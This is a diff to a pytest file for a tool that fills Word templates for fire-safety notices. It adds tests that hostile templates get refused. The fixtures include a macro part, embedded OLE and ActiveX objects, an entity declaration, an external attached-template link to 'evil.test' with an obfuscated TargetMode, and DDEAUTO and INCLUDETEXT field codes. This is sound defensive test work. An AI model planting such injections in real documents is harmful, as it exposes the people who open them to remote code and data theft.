@@ -3,6 +3,9 @@
 from __future__ import annotations
 
 import io
+import re
+import zipfile
+from collections.abc import Callable
 from dataclasses import replace
 from datetime import date
 
@@ -12,7 +15,7 @@ from docx.shared import Mm
 
 from analysis.hazards import with_clock
 from briefing.paper_fill import ForbiddenPaperError, PlaceholderError, check_text
-from briefing.paper_template import TemplateError, fill_template
+from briefing.paper_template import TemplateError, check_template, fill_template, left_out
 from briefing.papers import KINDS, Request, items_of, values, write_paper
 from briefing.templates import paper_words
 from tests.briefing.small_office import AS_OF, facts, hazards
@@ -141,3 +144,132 @@ def test_a_template_with_a_link_to_the_outside_is_refused():
     with pytest.raises(TemplateError) as caught:
         fill_template(stream.getvalue(), values(ASKED))
     assert caught.value.why == "link"
+
+
+def packed(content: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
+    """Return the package with one part changed, or a part of that name put in."""
+    stream = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(content)) as old,
+        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new,
+    ):
+        for entry in old.namelist():
+            part = old.read(entry)
+            new.writestr(entry, change(part) if entry == name else part)
+        if name not in old.namelist():
+            new.writestr(name, change(b""))
+    return stream.getvalue()
+
+
+BODY = "word/document.xml"
+GOOD = ("致{收文单位}", "{文号}")
+
+
+def put(xml: str) -> Callable[[bytes], bytes]:
+    """Return the change that puts this before the end of the body."""
+    return lambda part: part.replace(b"<w:sectPr", xml.encode() + b"<w:sectPr", 1)
+
+
+@pytest.mark.parametrize(
+    ("why", "content"),
+    [
+        ("brace", template("致{收文单位", "同志")),
+        ("brace", template("致收文单位}", "同志")),
+        ("brace", template("致\uff5b收文单位\uff5d", "同志")),
+        ("brace", template("致{{收文单位}}", "同志")),
+        ("macro", packed(template(*GOOD), "word/vbaProject.bin", lambda _: b"x")),
+        ("object", packed(template(*GOOD), "word/embeddings/ole1.bin", lambda _: b"x")),
+        ("object", packed(template(*GOOD), "word/activeX/activeX1.bin", lambda _: b"x")),
+        ("not_docx", packed(template(*GOOD), BODY, lambda part: part[:-9])),
+        (
+            "not_docx",
+            packed(
+                template(*GOOD), BODY,
+                lambda part: part.replace(
+                    b"<w:document", b'<!DOCTYPE x [<!ENTITY a "aaaaaaaa">]><w:document', 1
+                ),
+            ),
+        ),
+        (
+            "link",
+            packed(
+                template(*GOOD), "word/_rels/document.xml.rels",
+                lambda part: part.replace(
+                    b"</Relationships>",
+                    b'<Relationship Id="rId99" Type="http://x/attachedTemplate" '
+                    b'Target="http://evil.test/a.dotm" TargetMode="Ext&#101;rnal"/>'
+                    b"</Relationships>",
+                ),
+            ),
+        ),
+        (
+            "field",
+            packed(
+                template(*GOOD), BODY,
+                put('<w:p><w:r><w:instrText>DDEAUTO c:\\\\x "y"</w:instrText></w:r></w:p>'),
+            ),
+        ),
+        (
+            "field",
+            packed(
+                template(*GOOD), BODY,
+                put('<w:p><w:fldSimple w:instr=" INCLUDETEXT \'x\' "/></w:p>'),
+            ),
+        ),
+    ],
+)  # fmt: skip
+def test_a_hostile_template_is_refused_and_the_reason_named(why: str, content: bytes):
+    with pytest.raises(TemplateError) as caught:
+        check_template(content)
+    assert caught.value.why == why
+
+
+def test_a_template_with_nothing_to_fill_in_is_refused():
+    document = open_document()
+    document.add_paragraph("关于消防安全的通知")
+    stream = io.BytesIO()
+    document.save(stream)
+    with pytest.raises(TemplateError) as caught:
+        check_template(stream.getvalue())
+    assert caught.value.why == "nothing"
+
+
+def test_what_a_template_does_without_is_told_by_name():
+    told = left_out(
+        template("致{收文单位}"), "{收文单位}：共{隐患数}处，{答复期限}前答复，{收文单位}"
+    )
+    assert told == ("答复期限",)
+
+
+def test_a_text_box_and_a_content_control_are_filled_too():
+    box = (
+        '<w:p><w:r><w:pict><v:textbox xmlns:v="urn:schemas-microsoft-com:vml"><w:txbxContent>'
+        "<w:p><w:r><w:t>框内{收文</w:t></w:r><w:r><w:t>单位}</w:t></w:r></w:p>"
+        "</w:txbxContent></v:textbox></w:pict></w:r><w:r><w:t>框外</w:t></w:r></w:p>"
+        "<w:sdt><w:sdtContent><w:p><w:r><w:t>控件{截至日期}</w:t></w:r></w:p></w:sdtContent></w:sdt>"
+    )
+    made = fill_template(packed(template(*GOOD), BODY, put(box)), values(ASKED))
+    with zipfile.ZipFile(io.BytesIO(made)) as package:
+        text = package.read(BODY).decode()
+    assert "框内某足浴店" in text
+    assert "{" not in re.sub(r"<[^>]+>", "", text)
+    unknown = packed(template(*GOOD), BODY, put(box.replace("截至日期", "法人")))
+    with pytest.raises(PlaceholderError) as caught:
+        check_template(unknown)
+    assert caught.value.names == ("法人",)
+
+
+def test_a_name_in_a_foot_note_is_refused():
+    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+    note = f'<w:footnotes xmlns:w="{w}"><w:p><w:r><w:t>{{收文单位}}</w:t></w:r></w:p></w:footnotes>'
+    with pytest.raises(TemplateError) as caught:
+        check_template(packed(template(*GOOD), "word/footnotes.xml", lambda _: note.encode()))
+    assert caught.value.why == "note"
+
+
+def test_every_reason_has_its_sentence():
+    from pages.parts.meeting_templates import why
+
+    for reason in ("too_large", "not_docx", "macro", "object", "link", "field", "brace", "nothing",
+                   "note"):  # fmt: skip
+        assert "。" in why(TemplateError(reason, "x"))
